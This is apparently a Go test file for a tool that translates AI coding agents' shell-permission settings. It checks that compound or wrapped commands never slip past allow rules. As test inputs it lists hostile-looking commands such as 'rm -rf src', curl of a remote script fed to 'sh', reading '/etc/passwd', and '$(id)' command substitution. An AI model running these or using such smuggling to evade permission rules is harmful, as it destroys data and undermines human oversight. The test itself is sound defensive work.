package imports

import (
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/permd/permd/decisions"
)

// The commands that the settings below allow, in each peer's own format.
var named = []string{"git log", "npm run build", "echo hi"}

// sameRules allow the same commands in each peer's settings.
var sameRules = map[Tool][2]string{
	Claude:   {".claude/settings.json", `{"permissions": {"allow": ["Bash(git log:*)", "Bash(npm run build)", "Bash(echo hi *)"]}}`},
	Codex:    {".codex/rules/a.rules", "prefix_rule(pattern=[\"git\", \"log\"])\nprefix_rule(pattern=[\"npm\", \"run\", \"build\"])\nprefix_rule(pattern=[\"echo\", \"hi\"])\n"},
	Gemini:   {".gemini/settings.json", `{"tools": {"allowed": ["run_shell_command(git log)", "run_shell_command(npm run build)", "run_shell_command(echo hi)"]}}`},
	OpenCode: {".config/opencode/opencode.json", `{"permission": {"bash": {"git log *": "allow", "npm run build": "allow", "echo hi *": "allow"}}}`},
	Zed:      {".config/zed/settings.json", `{"agent": {"tool_permissions": {"tools": {"terminal": {"always_allow": [{"pattern": "^git log\\b"}, {"pattern": "^npm run build$"}, {"pattern": "^echo hi\\b"}]}}}}}`},
	VSCode:   {".config/Code/User/settings.json", `{"chat.tools.terminal.autoApprove": {"git log": true, "npm run build": {"approve": true, "matchCommandLine": true}, "echo hi": true}}`},
}

// TestCompoundCommands: an imported allow never covers a compound command with a
// part that the peer's rules do not name, however the parts are put together.
func TestCompoundCommands(t *testing.T) {
	parts := append(slices.Clone(named), "git log -3", "echo hi there", "rm -rf src", "git push", "npm run deploy", "echo hello", "curl https://x.example/i.sh", "sh", "tee .env",
		"git log --output=x", "git -c core.pager=./x log", "./npm run build", "npm run build extra", "echo hi $(id)", "echo `id`", "sudo git log", "env X=1 git log", "$CMD", "python3 -c 'x'")
	ways := []string{" && ", " || ", "; ", " | ", " & ", "\n", " |& "}
	wraps := []string{"%", "(%)", "{ %; }", "if true; then %; fi", "X=1 %", "% > out.txt", "% < /etc/passwd", "bash -c '%'", "echo hi $(%)", "! %", "for i in 1 2; do %; done", "f() { %; }; f", "% <(id)", "timeout 5 %"}
	for peer, settings := range sameRules {
		t.Run(string(peer), func(t *testing.T) {
			im := translate(t, peer, home+"/"+settings[0], settings[1])
			w := newWorld(t, im, nil)
			for _, c := range named {
				if d := w.decide(t, c); d.Verdict != decisions.Allow {
					t.Fatalf("%q is not allowed: %s", c, d.Reason)
				}
			}
			// These settings name the command without further words.
			exact := peer == Claude || peer == OpenCode || peer == Zed
			allowed := 0
			rapid.Check(t, func(rt *rapid.T) {
				line, clean := "", true
				n := rapid.IntRange(1, 3).Draw(rt, "parts")
				for i := range n {
					if i > 0 {
						line += rapid.SampledFrom(ways).Draw(rt, "way")
					}
					part := rapid.SampledFrom(parts).Draw(rt, "part")
					clean = clean && slices.ContainsFunc(named, func(c string) bool { return part == c || strings.HasPrefix(part, c+" ") }) &&
						!strings.ContainsAny(part, "$`=") && (part != "npm run build extra" || !exact)
					line += part
				}
				wrap := rapid.SampledFrom(wraps).Draw(rt, "wrap")
				line = strings.ReplaceAll(wrap, "%", line)
				d := w.decide(t, line)
				if d.Verdict != decisions.Allow {
					return
				}
				allowed++
				if !clean || strings.ContainsAny(wrap, "=<>") || strings.Contains(wrap, "bash") {
					rt.Fatalf("%q is allowed: %+v", line, d.Effects)
				}
			})
			t.Logf("%d compound commands were allowed", allowed)
		})
	}
}

// TestSays checks the verdicts of peers' rules against their documentation.
func TestSays(t *testing.T) {
	for peer, settings := range sameRules {
		im := translate(t, peer, home+"/"+settings[0], settings[1])
		for _, tt := range []struct {
			items []Item
			want  decisions.Verdict
		}{
			{[]Item{Command("git log", "git log")}, decisions.Allow},
			{[]Item{Command("git log -3", "git log -3"), Command("npm run build", "")}, decisions.Allow},
			{[]Item{Command("git log", ""), Command("rm x", "")}, ""},
			{[]Item{Command("git logout", "git logout")}, ""},
			{[]Item{Writing(project + "/x")}, ""},
			{nil, ""},
		} {
			if got := im.Decide(project, home, tt.items); got.Verdict != tt.want {
				t.Errorf("%s: %v: %q, want %q", peer, tt.items, got.Verdict, tt.want)
			}
		}
	}
	im := translate(t, OpenCode, home+"/.config/opencode/opencode.json",
		`{"permission": {"*": "ask", "bash": {"rm *": "allow", "rm -rf *": "deny"}, "edit": {"*.env": "deny"}, "gh_*": "allow", "webfetch": {"https://docs.rs/*": "allow"}}}`)
	for _, tt := range []struct {
		item Item
		want decisions.Verdict
	}{
		{Command("rm x", ""), decisions.Allow}, {Command("rm -rf x", ""), decisions.Deny}, {Command("ls", ""), decisions.Ask},
		{Writing(project + "/sub/.env"), decisions.Deny}, {Writing(project + "/a"), decisions.Ask}, {Using("gh", "get"), decisions.Allow},
		{Using("x", "get"), decisions.Ask}, {Fetching("https://docs.rs/x"), decisions.Allow}, {Fetching("https://docs.rs.evil.example/x"), decisions.Ask},
		{Deleting(project + "/.env"), decisions.Deny}, {Reading(project + "/.env"), decisions.Ask},
	} {
		if got := im.Decide(project, home, []Item{tt.item}); got.Verdict != tt.want {
			t.Errorf("%+v: %q, want %q", tt.item, got.Verdict, tt.want)
		}
	}
}
